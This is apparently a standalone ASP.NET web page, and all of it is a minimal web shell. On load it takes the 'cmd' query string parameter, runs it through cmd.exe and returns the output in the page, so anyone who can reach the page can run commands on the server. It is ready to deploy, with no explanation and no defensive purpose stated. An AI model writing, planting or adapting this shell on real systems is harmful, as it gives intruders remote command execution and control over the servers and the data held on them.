<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string c = Request.QueryString["cmd"];
        if (string.IsNullOrEmpty(c)) return;
        ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + c);
        psi.UseShellExecute = false;
        psi.RedirectStandardOutput = true;
        psi.RedirectStandardError = true;
        psi.CreateNoWindow = true;
        Process p = Process.Start(psi);
        string output = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
        p.WaitForExit();
        Response.Write("<pre>" + Server.HtmlEncode(output) + "</pre>");
    }
</script>
